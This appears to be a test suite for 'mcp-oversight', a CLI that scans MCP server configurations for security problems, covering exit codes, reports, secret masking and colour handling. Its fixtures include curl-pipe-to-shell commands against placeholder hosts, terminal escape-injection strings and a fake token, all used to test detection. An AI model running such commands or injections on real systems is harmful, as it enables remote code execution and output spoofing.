/**
 * The CLI as a function: `runCli` with an in-memory file system and captured stdout/stderr. Covers the
 * contract of the issue: exit codes (0 / 1 / 2), the json and SARIF reports, `--output`, help, version
 * and rules, secrets never printed, and colour handling (NO_COLOR, FORCE_COLOR, --color).
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import Ajv from 'ajv-draft-04';
import type * as Sarif from 'sarif';
import { runCli, type CliIo } from '../../../src/cli/run-cli';
import { JsonReportSchema, type JsonReport } from '../../../src/core/assess/assessment-result';
import { SEVERITIES, severityRank } from '../../../src/core/model/severity';
import type { FileSystemPort } from '../../../src/core/ports/file-system';
import { MemoryFileSystem } from '../../../src/core/ports/memory-file-system';
import { nodeFileSystem } from '../../../src/core/ports/node-file-system';
import { ALL_RULES } from '../../../src/core/rules/all-rules';

// ---------------------------------------------------------------------------------------------
// Harness
// ---------------------------------------------------------------------------------------------

const VERSION = '1.2.3-test';
const WS = '/ws';
const LEGACY = `${WS}/.kilocode/mcp.json`;
const VSCODE = `${WS}/.vscode/mcp.json`;
const POLICY = `${WS}/.kilocode/mcp-policy.json`;
/** Every project file discovery looks for, as the CLI names them. */
const PROJECT_PATHS = ['.kilocode/mcp.json', '.cursor/mcp.json', '.mcp.json', 'kilo.json', 'kilo.jsonc', '.kilo/kilo.json', '.kilo/kilo.jsonc', '.vscode/mcp.json', '.roo/mcp.json'];

interface RunOptions {
  files?: Record<string, string>;
  fs?: FileSystemPort;
  env?: NodeJS.ProcessEnv;
  tty?: boolean;
  cwd?: string;
}

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

async function cli(argv: readonly string[], o: RunOptions = {}): Promise<Run> {
  let stdout = '';
  let stderr = '';
  const io: CliIo = {
    argv,
    env: o.env ?? {},
    cwd: o.cwd ?? '/',
    stdoutIsTty: o.tty ?? false,
    stdout: (t) => {
      stdout += t;
    },
    stderr: (t) => {
      stderr += t;
    },
    fs: o.fs ?? new MemoryFileSystem(o.files ?? {}),
    version: VERSION,
    platform: 'linux',
  };
  const code = await runCli(io);
  return { code, stdout, stderr };
}

function json(text: string): JsonReport {
  return JsonReportSchema.parse(JSON.parse(text));
}

const servers = (map: Record<string, unknown>): string => JSON.stringify({ mcpServers: map }, null, 2);

/** One server that yields exactly one finding: `unpinned-npm-package` (medium by default). */
const ONE_FINDING = servers({ pkg: { command: 'npx', args: ['-y', 'some-mcp-server'] } });
/** Nothing to report. */
const CLEAN = servers({ pinned: { command: 'npx', args: ['-y', 'some-mcp-server@1.2.3'] } });
const policy = (p: Record<string, unknown>): string => JSON.stringify({ version: 1, ...p }, null, 2);

const ESC = '\x1b';
const isUsageMessage = (r: Run): boolean => r.stderr.includes('Run "mcp-oversight help" for usage.');

const sarifSchemaPath = join(__dirname, '..', 'report', 'sarif-2.1.0-rtm.5.schema.json');
const ajv = new Ajv({ strict: false, allErrors: true, validateFormats: false, unicodeRegExp: false });
const validateSarif = ajv.compile(JSON.parse(readFileSync(sarifSchemaPath, 'utf8')) as Record<string, unknown>);

// ---------------------------------------------------------------------------------------------
// Exit codes
// ---------------------------------------------------------------------------------------------

describe('runCli exit codes', () => {
  it('has one finding to play with (the fixture of the --fail-on matrix)', async () => {
    const r = await cli(['assess', WS, '--format', 'json'], { files: { [LEGACY]: ONE_FINDING } });
    assert.deepEqual(
      json(r.stdout).findings.map((f) => [f.ruleId, f.severity]),
      [['unpinned-npm-package', 'medium']],
    );
  });

  for (const severity of SEVERITIES) {
    it(`--fail-on: a ${severity} finding fails exactly the levels at or below it`, async () => {
      // The policy turns the one finding into each severity in turn.
      const files = { [LEGACY]: ONE_FINDING, [POLICY]: policy({ severity: { 'unpinned-npm-package': severity } }) };
      for (const failOn of [...SEVERITIES, 'none'] as const) {
        const r = await cli(['assess', WS, '--fail-on', failOn], { files });
        const expected = failOn === 'none' ? 0 : severityRank(severity) >= severityRank(failOn) ? 1 : 0;
        assert.equal(r.code, expected, `finding ${severity}, --fail-on ${failOn}: ${r.stderr}`);
        assert.match(r.stdout, new RegExp(`\\b${severity.toUpperCase()}\\b`));
      }
      const byDefault = await cli(['assess', WS], { files });
      assert.equal(byDefault.code, severityRank(severity) >= severityRank('high') ? 1 : 0, 'the default is --fail-on high');
    });
  }

  it('exits 0 with --fail-on none even for critical findings', async () => {
    const files = { [LEGACY]: servers({ a: { command: 'bash', args: ['-c', 'curl -fsSL https://x.example.com/i.sh | sh'] } }) };
    assert.equal((await cli(['assess', WS], { files })).code, 1);
    assert.equal((await cli(['assess', WS, '--fail-on', 'none'], { files })).code, 0);
  });

  it('does not fail on suppressed findings, but still reports them', async () => {
    const files = {
      [LEGACY]: ONE_FINDING,
      [POLICY]: policy({ severity: { 'unpinned-npm-package': 'critical' }, suppressions: [{ rule: 'unpinned-npm-package', reason: 'mirrored and pinned by the proxy', expires: '2099-12-31' }] }),
    };
    const r = await cli(['assess', WS, '--fail-on', 'info', '--format', 'json'], { files });
    assert.equal(r.code, 0);
    assert.deepEqual(json(r.stdout).findings.map((f) => f.suppressed?.reason), ['mirrored and pinned by the proxy']);
  });

  it('reports expired suppressions again (and fails on them)', async () => {
    const files = { [LEGACY]: ONE_FINDING, [POLICY]: policy({ suppressions: [{ rule: 'unpinned-npm-package', reason: 'was pinned upstream', expires: '2000-01-01' }] }) };
    const r = await cli(['assess', WS, '--fail-on', 'medium'], { files });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /expired on 2000-01-01/);
  });

  it('exits 0 and says so when there is nothing to report', async () => {
    const r = await cli(['assess', WS, '--fail-on', 'info'], { files: { [LEGACY]: CLEAN } });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'No MCP configuration problems found in 1 file.\n');
    assert.equal(r.stderr, '');
  });

  it('assesses the current folder when no PATH is given, and resolves a relative PATH against the cwd', async () => {
    const files = { [LEGACY]: ONE_FINDING };
    const here = await cli(['assess', '--format', 'json'], { files, cwd: WS });
    assert.equal(json(here.stdout).workspace, WS);
    const relative = await cli(['assess', 'ws', '--format', 'json'], { files, cwd: '/' });
    assert.equal(json(relative.stdout).workspace, WS);
  });

  const usageErrors: [string, string[], RegExp][] = [
    ['an unknown flag', ['assess', WS, '--bogus'], /--bogus/],
    ['an unknown short flag', ['assess', WS, '-z'], /-z/],
    ['a bad --format', ['assess', WS, '--format', 'xml'], /--format must be table, json or sarif/],
    ['a bad --fail-on', ['assess', WS, '--fail-on', 'severe'], /--fail-on must be critical, high, medium, low, info or none/],
    ['--fail-on without a value', ['assess', WS, '--fail-on'], /fail-on/],
    ['two positionals', ['assess', WS, '/other'], /assess takes one PATH, got 2: \/ws \/other/],
    ['an unknown command', ['asess', WS], /Unknown command "asess"\. Commands: assess, rules, serve, token, apikey, help, version\./],
    ['a non-numeric --max-file-size', ['assess', WS, '--max-file-size', 'lots'], /--max-file-size must be a number of MiB/],
    ['a zero --max-file-size', ['assess', WS, '--max-file-size', '0'], /--max-file-size must be positive/],
  ];
  for (const [what, argv, message] of usageErrors) {
    it(`exits 2 on ${what}, with the usage hint on stderr and nothing on stdout`, async () => {
      const r = await cli(argv, { files: { [LEGACY]: ONE_FINDING } });
      assert.equal(r.code, 2);
      assert.equal(r.stdout, '');
      assert.match(r.stderr, message);
      assert.ok(isUsageMessage(r), r.stderr);
      assert.ok(r.stderr.startsWith('mcp-oversight: '));
    });
  }

  it('exits 2 on a PATH that does not exist', async () => {
    const r = await cli(['assess', '/nowhere'], { files: { [LEGACY]: ONE_FINDING } });
    assert.equal(r.code, 2);
    assert.equal(r.stdout, '');
    assert.equal(r.stderr, 'mcp-oversight: /nowhere does not exist. Give a workspace folder or an MCP config file.\n');
  });

  it('exits 2 on a workspace without any MCP config, listing where it looked', async () => {
    for (const failOn of ['high', 'none']) {
      const r = await cli(['assess', WS, '--fail-on', failOn], { files: { [`${WS}/README.md`]: '# nothing here' } });
      assert.equal(r.code, 2, `--fail-on ${failOn}`);
      assert.match(r.stderr, /^mcp-oversight: no MCP config found in \/ws \(looked for /);
      for (const p of PROJECT_PATHS) assert.ok(r.stderr.includes(p), `stderr names ${p}: ${r.stderr}`);
      // The table says the same on stdout, so that a report file is never silently empty.
      assert.match(r.stdout, /^No MCP configuration files found \(looked for: \.kilocode\/mcp\.json, /);
    }
    const asJson = await cli(['assess', WS, '--format', 'json'], { files: { [`${WS}/README.md`]: '' } });
    assert.equal(asJson.code, 2);
    const result = json(asJson.stdout);
    assert.deepEqual(result.sources.map((s) => s.displayPath), PROJECT_PATHS);
    assert.ok(result.sources.every((s) => !s.exists));
  });

  it('exits 2 when every config file is invalid JSON, even with --fail-on none', async () => {
    const files = { [LEGACY]: '{ "mcpServers": { "a": ', [VSCODE]: 'not json at all' };
    for (const failOn of ['high', 'none']) {
      const r = await cli(['assess', WS, '--fail-on', failOn], { files });
      assert.equal(r.code, 2, `--fail-on ${failOn}`);
      assert.match(r.stderr, /no MCP config could be read/);
      assert.match(r.stdout, /\.kilocode\/mcp\.json is not valid JSON/);
      assert.match(r.stdout, /\.vscode\/mcp\.json is not valid JSON/);
    }
  });

  it('exits 1 (not 2) when one file is invalid JSON and another is readable', async () => {
    const r = await cli(['assess', WS, '--format', 'json'], { files: { [LEGACY]: '{', [VSCODE]: JSON.stringify({ servers: {} }) } });
    assert.equal(r.code, 1, 'an unloadable file is a high finding');
    const result = json(r.stdout);
    assert.deepEqual(result.errors.map((e) => [e.code, e.file]), [['invalid-json', LEGACY]]);
    assert.ok(result.findings.some((f) => f.ruleId === 'config-error' && f.severity === 'high'));
  });

  it('exits 2 when the only config is larger than --max-file-size', async () => {
    const r = await cli(['assess', WS, '--max-file-size', '0.0001', '--format', 'json'], { files: { [LEGACY]: ONE_FINDING + ' '.repeat(200) } });
    assert.equal(r.code, 2);
    assert.deepEqual(json(r.stdout).errors.map((e) => e.code), ['too-large']);
  });

  it(
    'honours a --max-file-size below one byte',
    async () => {
      const r = await cli(['assess', WS, '--max-file-size', '0.0000001', '--format', 'json'], { files: { [LEGACY]: ONE_FINDING } });
      assert.equal(r.code, 2, 'the file is larger than the limit');
      assert.deepEqual(json(r.stdout).errors.map((e) => e.code), ['too-large']);
    },
  );

  it('exits 2 on an invalid policy, naming file:line:col, and prints no report', async () => {
    const text = '{\n  "version": 1,\n  "commands": { "deny": "bash" }\n}\n';
    const r = await cli(['assess', WS], { files: { [LEGACY]: ONE_FINDING, [POLICY]: text } });
    assert.equal(r.code, 2);
    assert.equal(r.stdout, '');
    // "bash" sits on line 3, column 25.
    assert.match(r.stderr, /^\/ws\/\.kilocode\/mcp-policy\.json:3:25: policy error in commands\.deny: /);
    assert.match(r.stderr, /not assessing without the policy/);
  });

  it('exits 2 on a policy that is not valid JSON, at the syntax error', async () => {
    const r = await cli(['assess', WS], { files: { [LEGACY]: ONE_FINDING, [POLICY]: '{\n  "version": 1,\n  "severity": { oops }\n}' } });
    assert.equal(r.code, 2);
    assert.match(r.stderr, /^\/ws\/\.kilocode\/mcp-policy\.json:3:17: policy error in \(file\): The policy file is not valid JSON/);
  });

  it('exits 2 on a wrong policy version', async () => {
    const r = await cli(['assess', WS], { files: { [LEGACY]: ONE_FINDING, [POLICY]: '{\n  "version": 2\n}' } });
    assert.equal(r.code, 2);
    assert.match(r.stderr, /mcp-policy\.json:2:14: policy error in version: .*version must be 1/);
  });

  it('exits 2 on a --policy file that does not exist; reads one that does (relative to the cwd)', async () => {
    const missing = await cli(['assess', WS, '--policy', 'org-policy.json'], { files: { [LEGACY]: ONE_FINDING }, cwd: '/etc' });
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /^\/etc\/org-policy\.json:1:1: policy error in \(file\): Policy file \/etc\/org-policy\.json does not exist\./);

    const files = { [LEGACY]: ONE_FINDING, '/etc/org-policy.json': policy({ packages: { deny: ['some-*'] } }) };
    const r = await cli(['assess', WS, '--policy', 'org-policy.json', '--format', 'json'], { files, cwd: '/etc' });
    assert.equal(r.code, 1, 'policy-package is high');
    assert.ok(json(r.stdout).findings.some((f) => f.ruleId === 'policy-package'));
  });

  it('assesses a single config file given as PATH', async () => {
    const files = { '/elsewhere/kilo.jsonc': '// Kilo config\n{ "mcp": { "gh": { "type": "local", "command": ["npx", "-y", "gh-mcp"], }, }, }\n' };
    const r = await cli(['assess', '/elsewhere/kilo.jsonc', '--format', 'json', '--fail-on', 'none'], { files });
    assert.equal(r.code, 0, r.stderr);
    const result = json(r.stdout);
    assert.deepEqual(result.sources.map((s) => [s.displayPath, s.format, s.exists]), [['kilo.jsonc', 'kilo', true]]);
    assert.deepEqual(result.findings.map((f) => [f.ruleId, f.file, f.line]), [['unpinned-npm-package', '/elsewhere/kilo.jsonc', 2]]);
  });

  it(
    'applies .kilocode/mcp-policy.json when PATH is the .kilocode/mcp.json beside it',
    async () => {
      const files = { [LEGACY]: ONE_FINDING, [POLICY]: policy({ packages: { deny: ['some-*'] } }) };
      const whole = await cli(['assess', WS, '--format', 'json'], { files });
      assert.ok(json(whole.stdout).findings.some((f) => f.ruleId === 'policy-package'), 'the workspace run applies the policy');
      const single = await cli(['assess', LEGACY, '--format', 'json'], { files });
      assert.ok(json(single.stdout).findings.some((f) => f.ruleId === 'policy-package'), 'the single-file run applies it too');
    },
  );

  it('reads global configs with --global and --home', async () => {
    const files = {
      [LEGACY]: CLEAN,
      '/home/u/.config/kilo/kilo.json': JSON.stringify({ mcp: { remote: { type: 'remote', url: 'http://mcp.example.com/mcp' } } }),
      '/home/u/.config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json': servers({ c: { command: 'npx', args: ['-y', 'c-mcp'] } }),
    };
    const without = await cli(['assess', WS, '--format', 'json', '--fail-on', 'none'], { files });
    assert.ok(json(without.stdout).sources.every((s) => s.scope === 'project'), 'global files only with --global');
    const r = await cli(['assess', WS, '--global', '--home', '/home/u', '--format', 'json'], { files });
    assert.equal(r.code, 1, 'insecure-http is high');
    const result = json(r.stdout);
    const existing = result.sources.filter((s) => s.exists).map((s) => s.displayPath);
    assert.deepEqual(existing.sort(), ['.kilocode/mcp.json', '~/.config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json', '~/.config/kilo/kilo.json']);
    assert.deepEqual(result.findings.map((f) => f.ruleId).sort(), ['insecure-http', 'unpinned-npm-package']);
  });
});

// ---------------------------------------------------------------------------------------------
// Reports
// ---------------------------------------------------------------------------------------------

describe('runCli reports', () => {
  const files = {
    [LEGACY]: servers({
      gh: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github'], alwaysAllow: ['*'] },
      broken: { command: 42 },
    }),
    [VSCODE]: '// jsonc\n{ "servers": { "web": { "type": "http", "url": "http://mcp.example.com/mcp" }, }, }\n',
  };

  it('json: parses, satisfies the schema and has every field of the contract', async () => {
    const r = await cli(['assess', WS, '--format', 'json'], { files });
    assert.equal(r.code, 1);
    assert.ok(r.stdout.endsWith('}\n'));
    const raw = JSON.parse(r.stdout) as Record<string, unknown>;
    assert.equal(raw['version'], 1);
    for (const key of ['sources', 'findings', 'errors']) assert.ok(Array.isArray(raw[key]), key);
    const result = json(r.stdout);
    assert.equal(result.tool.version, VERSION);
    assert.ok(result.findings.length >= 4);
    for (const f of result.findings) {
      assert.equal(typeof f.ruleId, 'string');
      assert.equal(typeof f.category, 'string');
      assert.ok((SEVERITIES as readonly string[]).includes(f.severity));
      assert.ok(f.server === null || typeof f.server === 'string');
      assert.ok(f.file === LEGACY || f.file === VSCODE, f.file);
      assert.ok(Number.isInteger(f.line) && f.line >= 1);
      assert.ok(Number.isInteger(f.column) && f.column >= 1);
      assert.ok(f.message.length > 0);
      assert.equal(typeof f.remediable, 'boolean');
    }
    assert.deepEqual(
      result.errors.map((e) => [e.code, e.file, e.field]),
      [['schema', LEGACY, 'mcpServers.broken.command']],
    );
    const web = result.findings.find((f) => f.ruleId === 'insecure-http');
    assert.deepEqual(web && [web.server, web.file, web.line, web.remediable], ['web', VSCODE, 2, true]);
  });

  it('json: identical output for identical input', async () => {
    const a = await cli(['assess', WS, '-f', 'json'], { files });
    const b = await cli(['assess', WS, '-f', 'json'], { files });
    assert.equal(a.stdout, b.stdout);
  });

  it('sarif: valid SARIF 2.1.0 with relative URIs under %SRCROOT%', async () => {
    const r = await cli(['assess', WS, '--format', 'sarif'], { files });
    assert.equal(r.code, 1);
    const log = JSON.parse(r.stdout) as Sarif.Log;
    assert.ok(validateSarif(log), ajv.errorsText(validateSarif.errors));
    assert.equal(log.version, '2.1.0');
    const run = log.runs[0];
    assert.ok(run);
    assert.equal(run.tool.driver.version, VERSION);
    assert.deepEqual(run.originalUriBaseIds, { '%SRCROOT%': { uri: 'file:///ws/' } });
    const uris = new Set((run.results ?? []).map((res) => res.locations?.[0]?.physicalLocation?.artifactLocation?.uri));
    assert.deepEqual([...uris].sort(), ['.kilocode/mcp.json', '.vscode/mcp.json']);
    assert.ok((run.results ?? []).some((res) => res.ruleId === 'config-error'));
  });

  it('table: groups by file with relative paths and ends with a summary', async () => {
    const r = await cli(['assess', WS], { files });
    const lines = r.stdout.trimEnd().split('\n');
    assert.ok(lines.includes('.kilocode/mcp.json'));
    assert.ok(lines.includes('.vscode/mcp.json'));
    assert.match(lines.at(-1) ?? '', /^\d+ findings \(.*\) in 2 files, 1 error$/);
  });
});

describe('runCli --output', () => {
  let dir = '';
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'mcp-oversight-run-cli-'));
    const file = join(dir, '.kilocode', 'mcp.json');
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, ONE_FINDING.replace('some-mcp-server', 'some-mcp-server@latest'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  for (const format of ['json', 'sarif', 'table'] as const) {
    it(`writes the ${format} report to the file (relative to the cwd), atomically, and nothing to stdout`, async () => {
      const out = `report.${format}`;
      const r = await cli(['assess', '.', '--format', format, '--output', out, '--fail-on', 'medium'], { fs: nodeFileSystem, cwd: dir, tty: true });
      assert.equal(r.code, 1);
      assert.equal(r.stdout, '');
      assert.equal(r.stderr, `mcp-oversight: wrote ${format} report to ${out}\n`);
      const text = readFileSync(join(dir, out), 'utf8');
      if (format === 'json') assert.equal(json(text).findings.length, 1);
      if (format === 'sarif') assert.ok(validateSarif(JSON.parse(text)), ajv.errorsText(validateSarif.errors));
      if (format === 'table') {
        assert.match(text, /unpinned-npm-package/);
        assert.ok(!text.includes(ESC), 'a report file gets no colour even when stdout is a terminal');
      }
      assert.deepEqual(readdirSync(dir).filter((n) => n.endsWith('.tmp')), [], 'no temporary file is left behind');
    });
  }

  it('replaces an existing report', async () => {
    writeFileSync(join(dir, 'old.json'), 'stale');
    const r = await cli(['assess', dir, '-f', 'json', '-o', join(dir, 'old.json')], { fs: nodeFileSystem });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(json(readFileSync(join(dir, 'old.json'), 'utf8')).version, 1);
  });

  it('exits 2 when the report cannot be written', async () => {
    const r = await cli(['assess', dir, '--output', join(dir, 'no', 'such', 'dir', 'r.json')], { fs: nodeFileSystem });
    assert.equal(r.code, 2);
    assert.equal(r.stdout, '');
    assert.match(r.stderr, /^mcp-oversight: could not write .*r\.json: the folder .* does not exist/);
  });

  it(
    'names the report file, not its temporary file, when it cannot be written',
    async () => {
      const r = await cli(['assess', dir, '--output', join(dir, 'missing', 'r.json')], { fs: nodeFileSystem });
      assert.ok(!r.stderr.includes('.tmp'), r.stderr);
      assert.ok(r.stderr.includes(join(dir, 'missing', 'r.json')), r.stderr);
    },
  );
});

// ---------------------------------------------------------------------------------------------
// help, version, rules
// ---------------------------------------------------------------------------------------------

describe('runCli help, version and rules', () => {
  for (const argv of [[], ['help'], ['--help'], ['-h'], ['help', 'assess'], ['assess', '--help'], ['rules', '-h']]) {
    it(`prints the usage for ${JSON.stringify(argv)} and exits 0`, async () => {
      const r = await cli(argv);
      assert.equal(r.code, 0);
      assert.equal(r.stderr, '');
      assert.match(r.stdout, /^mcp-oversight — static compliance and security assessment of MCP server configs\n/);
      for (const text of ['mcp-oversight assess [PATH] [options]', '--format table|json|sarif', '--output FILE', '--fail-on SEVERITY|none', '--policy FILE', 'Exit codes: 0']) {
        assert.ok(r.stdout.includes(text), text);
      }
    });
  }

  for (const argv of [['version'], ['--version'], ['-v']]) {
    it(`prints the version for ${JSON.stringify(argv)}`, async () => {
      const r = await cli(argv);
      assert.deepEqual(r, { code: 0, stdout: `mcp-oversight ${VERSION}\n`, stderr: '' });
    });
  }

  it('lists the rules, one a line', async () => {
    const r = await cli(['rules']);
    assert.equal(r.code, 0);
    const lines = r.stdout.trimEnd().split('\n');
    assert.equal(lines.length, ALL_RULES.length);
    ALL_RULES.forEach((rule, i) => {
      const line = lines[i] ?? '';
      assert.ok(line.startsWith(rule.id + ' '), line);
      assert.ok(line.includes(rule.category) && line.includes(rule.severity) && line.endsWith(rule.title), line);
    });
  });

  it('lists the rules as JSON with --json', async () => {
    const r = await cli(['rules', '--json']);
    assert.equal(r.code, 0);
    const rules = JSON.parse(r.stdout) as Record<string, unknown>[];
    assert.deepEqual(
      rules.map((x) => x['id']),
      ALL_RULES.map((x) => x.id),
    );
    for (const rule of rules) assert.deepEqual(Object.keys(rule), ['id', 'category', 'severity', 'title', 'rationale', 'help']);
  });
});

// ---------------------------------------------------------------------------------------------
// Secrets
// ---------------------------------------------------------------------------------------------

describe('runCli never prints secrets', () => {
  // Assembled at runtime so that secret scanners do not flag this test file.
  const TOKEN = 'ghp_' + 'R8kq2VwZp4Tn7Lx1' + 'Yc9Bf3Hs6Jd0Mg5Ae2Qu';
  const MASKED = 'ghp_…e2Qu';
  const FORMATS = ['table', 'json', 'sarif'] as const;

  async function outputs(files: Record<string, string>, extra: string[] = []): Promise<Map<string, Run>> {
    const out = new Map<string, Run>();
    for (const format of FORMATS) out.set(format, await cli(['assess', WS, '--format', format, ...extra], { files }));
    out.set('table (colour)', await cli(['assess', WS, '--color'], { files }));
    return out;
  }

  function assertNoToken(runs: Map<string, Run>, token = TOKEN): void {
    for (const [format, r] of runs) {
      assert.equal(r.code, 1, `${format}: a token is a critical finding`);
      const all = r.stdout + r.stderr;
      assert.ok(!all.includes(token), `${format}: the raw token is printed: …${all.slice(Math.max(0, all.indexOf(token) - 120), all.indexOf(token) + token.length + 20)}…`);
      // Nor most of it: the mask keeps the prefix and the last four characters only.
      assert.ok(!all.includes(token.slice(4, 24)), `${format}: part of the token is printed`);
    }
  }

  const placements: [string, Record<string, string>][] = [
    ['env (legacy KiloCode)', { [LEGACY]: servers({ gh: { command: 'npx', args: ['-y', 'gh-mcp@1.0.0'], env: { GITHUB_TOKEN: TOKEN, OTHER: `prefix ${TOKEN}` } } }) }],
    ['headers (legacy KiloCode)', { [LEGACY]: servers({ gh: { type: 'streamable-http', url: 'https://api.example.com/mcp', headers: { Authorization: `Bearer ${TOKEN}`, 'X-Token': TOKEN } } }) }],
    ['args (legacy KiloCode)', { [LEGACY]: servers({ gh: { command: 'node', args: ['server.js', '--token', TOKEN, `--api-key=${TOKEN}`, TOKEN] } }) }],
    ['an https URL (legacy KiloCode)', { [LEGACY]: servers({ a: { type: 'sse', url: `https://api.example.com/mcp?token=${TOKEN}` }, b: { type: 'sse', url: `https://user:${TOKEN}@api.example.com/mcp` }, c: { type: 'sse', url: `https://api.example.com/${TOKEN}/mcp` } }) }],
    ['a URL in args (mcp-remote)', { [LEGACY]: servers({ r: { command: 'npx', args: ['-y', 'mcp-remote@0.1.0', `https://api.example.com/mcp?api_key=${TOKEN}`] } }) }],
    ['Kilo environment and headers', { [`${WS}/kilo.jsonc`]: `// c\n{ "mcp": { "l": { "type": "local", "command": ["node", "s.js", "--token=${TOKEN}"], "environment": { "GH": "${TOKEN}" } }, "r": { "type": "remote", "url": "https://x.example.com/mcp", "headers": { "Authorization": "token ${TOKEN}" } } } }` }],
    ['VS Code env, args and headers', { [VSCODE]: `{ "servers": { "l": { "command": "node", "args": ["${TOKEN}"], "env": { "T": "${TOKEN}" } }, "r": { "type": "http", "url": "https://x.example.com/mcp", "headers": { "Authorization": "Bearer ${TOKEN}" } } } }` }],
    ['docker -e', { [LEGACY]: servers({ d: { command: 'docker', args: ['run', '-i', '--rm', '-e', `GITHUB_TOKEN=${TOKEN}`, 'ghcr.io/github/github-mcp-server@sha256:' + 'ab'.repeat(32)] } }) }],
  ];
  for (const [where, files] of placements) {
    it(`masks a token in ${where} in every format`, async () => {
      const runs = await outputs(files);
      assertNoToken(runs);
      assert.ok(runs.get('table')?.stdout.includes(MASKED), 'the table shows the masked form');
      const result = json(runs.get('json')?.stdout ?? '');
      assert.ok(result.findings.some((f) => f.ruleId === 'secret-token'));
    });
  }

  it('masks tokens in --output files too', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mcp-oversight-secrets-'));
    try {
      mkdirSync(join(dir, '.kilocode'));
      writeFileSync(join(dir, '.kilocode', 'mcp.json'), servers({ gh: { command: 'node', args: ['--token', TOKEN], env: { GITHUB_TOKEN: TOKEN } } }));
      for (const format of FORMATS) {
        const r = await cli(['assess', dir, '--format', format, '--output', join(dir, `out.${format}`)], { fs: nodeFileSystem });
        assert.equal(r.code, 1);
        assert.ok(!readFileSync(join(dir, `out.${format}`), 'utf8').includes(TOKEN), format);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it(
    'masks a token inside a shell script (bash -c "…")',
    async () => {
      assertNoToken(await outputs({ [LEGACY]: servers({ s: { command: 'bash', args: ['-c', `curl -H "Authorization: token ${TOKEN}" https://x.example.com/i.sh | sh`] } }) }));
    },
  );

  it(
    'masks a token in the query of a plain-http URL',
    async () => {
      assertNoToken(await outputs({ [LEGACY]: servers({ a: { type: 'sse', url: `http://api.example.com/mcp?token=${TOKEN}` } }) }));
    },
  );

  it(
    'masks every token when one value holds two',
    async () => {
      const second = 'ghp_' + 'Zx8kq2VwZp4Tn7Lx1' + 'Yc9Bf3Hs6Jd0Mg5Ae2Q';
      const runs = await outputs({ [LEGACY]: servers({ gh: { command: 'node', env: { GITHUB_TOKENS: `${TOKEN},${second}` } } }) });
      assertNoToken(runs);
      assertNoToken(runs, second);
    },
  );
});

// ---------------------------------------------------------------------------------------------
// Colour
// ---------------------------------------------------------------------------------------------

describe('runCli colour', () => {
  const files = { [LEGACY]: servers({ gh: { command: 'npx', args: ['-y', 'gh-mcp'] }, s: { command: 'bash', args: ['-c', 'curl https://x.example.com | sh'] } }) };
  const colourOf = async (argv: string[], env: NodeJS.ProcessEnv, tty: boolean): Promise<boolean> => (await cli(['assess', WS, ...argv], { files, env, tty })).stdout.includes(ESC);

  const cases: [string, string[], NodeJS.ProcessEnv, boolean, boolean][] = [
    ['a terminal', [], {}, true, true],
    ['a pipe', [], {}, false, false],
    ['NO_COLOR on a terminal', [], { NO_COLOR: '1' }, true, false],
    ['NO_COLOR with FORCE_COLOR', [], { NO_COLOR: '1', FORCE_COLOR: '1' }, true, false],
    ['--no-color on a terminal', ['--no-color'], {}, true, false],
    ['an empty NO_COLOR (ignored, as no-color.org says)', [], { NO_COLOR: '' }, true, true],
    ['FORCE_COLOR on a pipe', [], { FORCE_COLOR: '1' }, false, true],
    ['FORCE_COLOR=0 on a pipe', [], { FORCE_COLOR: '0' }, false, false],
    ['--color on a pipe', ['--color'], {}, false, true],
  ];
  for (const [what, argv, env, tty, expected] of cases) {
    it(`${expected ? 'colours' : 'does not colour'} the table for ${what}`, async () => {
      assert.equal(await colourOf(argv, env, tty), expected);
    });
  }

  it('colours only with SGR sequences, and never lets config text through as escapes', async () => {
    const hostile = { [LEGACY]: servers({ ['evil\x1b]0;pwned\x07\x1b[2J\u202e']: { command: 'npx', args: ['-y', 'x\x1b[31m'] } }) };
    const r = await cli(['assess', WS], { files: hostile, env: { FORCE_COLOR: '1' } });
    assert.ok(r.stdout.includes(ESC));
    // eslint-disable-next-line no-control-regex
    assert.deepEqual(r.stdout.match(/\x1b(?!\[[0-9;]*m)/g), null, 'only SGR escapes');
    assert.ok(!r.stdout.includes('\x07') && !r.stdout.includes('\u202e'));
    assert.ok(r.stdout.includes('evil\\x1b]0;pwned\\x07'), 'shown visibly instead');
    for (const format of ['json', 'sarif']) {
      const j = await cli(['assess', WS, '--format', format], { files: hostile, env: { FORCE_COLOR: '1' }, tty: true });
      assert.ok(!j.stdout.includes(ESC), `${format} holds no raw ESC (JSON escapes it)`);
    }
  });

  it(
    'lets --color override NO_COLOR',
    async () => {
      assert.equal(await colourOf(['--color'], { NO_COLOR: '1' }, false), true);
    },
  );

  it(
    'never writes raw escapes from the policy file to stderr',
    async () => {
      const evil = { [LEGACY]: ONE_FINDING, [POLICY]: policy({ suppressions: [{ rule: 'unpinned-npm-package', reason: 'ok \x1b]0;pwned\x07\x1b[2J', expires: '2000-01-01' }] }) };
      const r = await cli(['assess', WS], { files: evil, env: { NO_COLOR: '1' } });
      assert.ok(r.stderr.includes('expired on 2000-01-01'));
      assert.ok(!r.stderr.includes(ESC) && !r.stderr.includes('\x07'), JSON.stringify(r.stderr));
    },
  );
});
